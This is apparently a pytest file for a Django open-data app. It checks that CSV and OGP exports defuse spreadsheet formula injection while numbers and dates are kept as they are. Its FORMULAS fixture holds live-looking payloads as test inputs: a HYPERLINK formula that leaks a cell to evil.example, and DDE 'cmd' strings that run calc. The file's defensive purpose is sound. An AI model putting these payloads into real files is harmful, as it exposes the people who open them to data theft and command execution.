"""CSV formula injection in every open-data CSV: each dataset of /data/ (taken from the registry,
so a new dataset is covered), the OGP-layout export (the page and `opengov export-ogp`). Every
user-text field holds a formula (content_world, through the services); no cell a spreadsheet
reads may start with =, +, -, @, a tab or a carriage return unless it is a plain number (OWASP:
such a cell gets a leading apostrophe), while numbers and dates stay numbers and dates."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re

import pytest
from django.core.management import call_command
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from opengov.action_plans.models import Commitment
from opengov.api.data import csv_cell
from opengov.api.datasets import (
    BOOLEAN,
    DATASETS,
    DATE,
    DATETIME,
    INTEGER,
    INTEGER_LIST,
)
from opengov.core.text import (
    FORMULA_STARTS,
    PLAIN_NUMBER,
    guard_formula,
    needs_formula_guard,
    unguard_formula,
)

from .content_world import World, build_world

pytestmark = pytest.mark.django_db

FORMULAS = {
    "equals": '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}
# What a typed column's cells look like: numbers, ISO dates and times, true/false.
TYPED = {
    INTEGER: re.compile(r"-?[0-9]+"),
    INTEGER_LIST: re.compile(r"[0-9]+(; [0-9]+)*"),
    DATE: re.compile(r"[0-9]{4}-[0-9]{2}-[0-9]{2}"),
    DATETIME: re.compile(r"[0-9]{4}-[0-9]{2}-[0-9]{2}[T ][0-9:.]+([+-][0-9:]+|Z)?"),
    BOOLEAN: re.compile(r"true|false"),
}


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)


def read_csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.fixture(params=list(FORMULAS))
def world(request, db) -> World:
    return build_world(FORMULAS[request.param])


def test_every_dataset_defuses_formulas_and_keeps_numbers_and_dates(world, client):
    assert len(DATASETS) >= 14
    for name, dataset in DATASETS.items():
        rows = read_csv(client.get(reverse("data:csv", kwargs={"name": name})))
        header, body = rows[0], rows[1:]
        assert header == [column.name for column in dataset.columns]
        assert body, f"{name}: the world put no row in it"
        guarded = 0
        for row in body:
            for column, cell in zip(dataset.columns, row, strict=True):
                assert not runs_as_formula(cell), (name, column.name, cell)
                if column.type in TYPED and cell:
                    assert TYPED[column.type].fullmatch(cell), (name, column.name, cell)
                guarded += cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS)
        assert guarded, f"{name}: no attacked text reached the download"


@pytest.mark.parametrize("world", ["equals"], indirect=True)
def test_json_downloads_keep_the_text_as_written(world, client):
    response = client.get(reverse("data:json", kwargs={"name": "commitments"}))
    items = json.loads(b"".join(response.streaming_content))
    assert items[0]["description"] == FORMULAS["equals"]


def _ogp_rows_are_safe(rows: list[list[str]], commitment: Commitment) -> None:
    header = rows[0]
    assert len(rows) == 2
    for column, cell in zip(header, rows[1], strict=True):
        assert not runs_as_formula(cell), (column, cell)
    cells = dict(zip(header, rows[1], strict=True))
    assert cells["Full Text"] == guard_formula(commitment.description)
    assert cells["Full Text"] != commitment.description


def test_the_ogp_export_defuses_formulas(world, client):
    commitment = world.commitment
    response = client.get(reverse("data:commitments-ogp"))
    _ogp_rows_are_safe(read_csv(response), commitment)
    out = io.StringIO()
    call_command("export_ogp", stdout=out)
    _ogp_rows_are_safe(list(csv.reader(io.StringIO(out.getvalue(), newline=""))), commitment)


@pytest.mark.parametrize("world", ["minus"], indirect=True)
def test_the_ogp_export_keeps_negative_numbers_and_dates(world, client):
    """OGP's "_ChangeCompletion" holds -1 (a number, kept verbatim from an import); its dates are
    dates: neither gets an apostrophe."""
    Commitment.objects.filter(pk=world.commitment.pk).update(
        ogp_source={"_ChangeCompletion": "-1"},
        starts_on=dt.date(2016, 7, 1),
        ends_on=dt.date(2018, 6, 30),
    )
    cells = dict(zip(*read_csv(client.get(reverse("data:commitments-ogp"))), strict=True))
    assert cells["_ChangeCompletion"] == "-1"
    assert cells["Start Date"][:1].isdigit() and cells["End Date"][:1].isdigit()


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),
        (-2.5, "-2.5"),
        (dt.date(2016, 11, 10), "2016-11-10"),
        (dt.datetime(2016, 11, 10, 14, 30, tzinfo=dt.UTC), "2016-11-10T14:30:00+00:00"),
        ([3, -1], "3; -1"),
        ("-5", "-5"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-١٢", "'-١٢"),  # not a number to a spreadsheet: Arabic-Indic digits
        ("@", "'@"),
        ("'=1", "''=1"),
        ("a; =b", "a; =b"),
        (["=a", "b"], "'=a; b"),
    ],
)
def test_a_cell_is_guarded_unless_it_is_a_number_or_a_date(value, cell):
    assert csv_cell(value) == cell


@given(st.text() | st.text(alphabet="=+-@'\t\r0123456789.eE x١"))
def test_no_text_escapes_the_guard_and_the_guard_comes_off(text):
    cell = csv_cell(text)
    assert not runs_as_formula(cell)
    assert unguard_formula(guard_formula(text)) == text
    assert (cell != text) == needs_formula_guard(text)
